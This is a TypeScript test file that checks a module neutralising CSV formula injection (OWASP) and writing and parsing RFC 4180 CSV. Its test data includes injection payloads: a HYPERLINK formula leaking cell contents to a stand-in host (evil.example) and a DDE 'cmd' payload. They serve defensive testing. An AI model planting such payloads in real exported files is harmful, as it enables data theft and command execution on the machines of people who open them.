import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import * as XLSX from '@e965/xlsx';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isFormulaLike, neutraliseCell, restoreCell, toCsv } from '#shared/core/spreadsheet-safety';
import { parseCsv } from '#shared/core/csv-parse';

/** Reads CSV bytes the way a spreadsheet program does (SheetJS), returning each cell's value and formula. */
function openInSpreadsheet(bytes: Buffer): Array<{ v: unknown; f?: string }> {
  const wb = XLSX.read(bytes, { type: 'buffer' });
  const ws = wb.Sheets[wb.SheetNames[0]!]!;
  return Object.keys(ws)
    .filter((k) => !k.startsWith('!'))
    .map((k) => ws[k] as { v: unknown; f?: string });
}

describe('neutraliseCell (OWASP CSV injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    [' =1+1', "' =1+1"],
    ['\u00a0\u3000=1', "'\u00a0\u3000=1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠x', "'＠x"],
    ["'=1+1", "''=1+1"],
  ])('%j is prefixed with a quote', (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected);
    expect(restoreCell(expected)).toBe(input);
  });

  it.each(['', 'Agree', 'a=b', '1+1', "It's fine", "'quoted'", 'Ms O’Brien', '100%', ' leading space'])(
    '%j is left alone',
    (v) => {
      expect(neutraliseCell(v)).toBe(v);
      expect(restoreCell(v)).toBe(v);
    },
  );

  it('restoreCell undoes neutraliseCell for any text, and the result never starts a formula', () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', "'", 'a', '1', '＝', '\u3000', 'é'),
        }),
        (v) => {
          const n = neutraliseCell(v);
          expect(restoreCell(n)).toBe(v);
          // After any leading quote the spreadsheet shows text: the first character is a quote or not a trigger.
          if (isFormulaLike(v)) expect(n.startsWith("'")).toBe(true);
          else expect(n).toBe(v);
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('toCsv', () => {
  it('writes RFC 4180 with a BOM and CRLF, quoting only where needed', () => {
    const csv = toCsv([
      ['id', 'text'],
      ['1', 'plain'],
      ['2', 'has, comma'],
      ['3', 'has "quotes"'],
      ['4', 'two\nlines'],
      ['5', ' padded '],
      [''],
    ]);
    expect(csv).toBe(
      '\ufeffid,text\r\n1,plain\r\n2,"has, comma"\r\n3,"has ""quotes"""\r\n4,"two\nlines"\r\n5," padded "\r\n""\r\n',
    );
    expect(toCsv([['a']], { bom: false })).toBe('a\r\n');
  });

  it('a spreadsheet program opening the written file finds no formula (and would without neutralising)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'csv-safety-'));
    try {
      const rows = [
        ['answer'],
        ['=HYPERLINK("http://evil.example","Click")'],
        ['=1+1'],
        ['@SUM(1,2)'],
        ['Normal answer'],
      ];
      const safe = join(dir, 'safe.csv');
      const unsafe = join(dir, 'unsafe.csv');
      writeFileSync(safe, toCsv(rows), 'utf8');
      writeFileSync(unsafe, toCsv(rows, { neutralise: false }), 'utf8');
      const bytes = readFileSync(safe);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const safeCells = openInSpreadsheet(bytes);
      expect(safeCells.filter((c) => c.f !== undefined)).toEqual([]);
      expect(safeCells.map((c) => c.v)).toContain('\'=HYPERLINK("http://evil.example","Click")');
      // The control: the same rows written raw are read as formulas.
      expect(openInSpreadsheet(readFileSync(unsafe)).filter((c) => c.f !== undefined).length).toBeGreaterThanOrEqual(2);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  const cell = fc.string({
    unit: fc.oneof(
      fc.constantFrom(',', '"', '\r', '\n', '\r\n', ' ', '=', '+', '-', '@', "'", '\t', 'é', '£', '€'),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    ),
  });
  const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 8 });

  it('round-trips any rows through papaparse (after restoring neutralised cells)', () => {
    fc.assert(
      fc.property(rows, (r) => {
        const csv = toCsv(r);
        expect(csv.startsWith('\ufeff')).toBe(true);
        const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', delimiter: ',' }).data;
        // A CRLF after the last row gives papaparse one empty trailing row.
        expect(parsed.at(-1)).toEqual(['']);
        expect(parsed.slice(0, -1).map((row) => row.map(restoreCell))).toEqual(r);
      }),
      { numRuns: 500 },
    );
  });

  it('our own CSV reader agrees with papaparse on what we write', () => {
    fc.assert(
      fc.property(rows, (r) => {
        expect(parseCsv(toCsv(r)).map((row) => row.map(restoreCell))).toEqual(r);
      }),
      { numRuns: 500 },
    );
  });
});

describe('parseCsv', () => {
  it('reads LF, CR and CRLF line ends, quoted line breaks and doubled quotes', () => {
    expect(parseCsv('a,b\nc,d\re,f\r\n')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
      ['e', 'f'],
    ]);
    expect(parseCsv('"x\r\ny","say ""hi"""')).toEqual([['x\r\ny', 'say "hi"']]);
    expect(parseCsv('a,\n,b')).toEqual([
      ['a', ''],
      ['', 'b'],
    ]);
    expect(parseCsv('')).toEqual([]);
  });

  it('refuses an unclosed quote, saying where it started', () => {
    expect(() => parseCsv('a\n"b,c\nd')).toThrow(/line 2/);
  });

  it('agrees with papaparse on arbitrary well-formed CSV written by papaparse', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 6 }),
        (r) => {
          const text = Papa.unparse(r, { quotes: true, newline: '\r\n' });
          expect(parseCsv(text)).toEqual(Papa.parse<string[]>(text, { newline: '\r\n', delimiter: ',' }).data);
        },
      ),
      { numRuns: 300 },
    );
  });
});
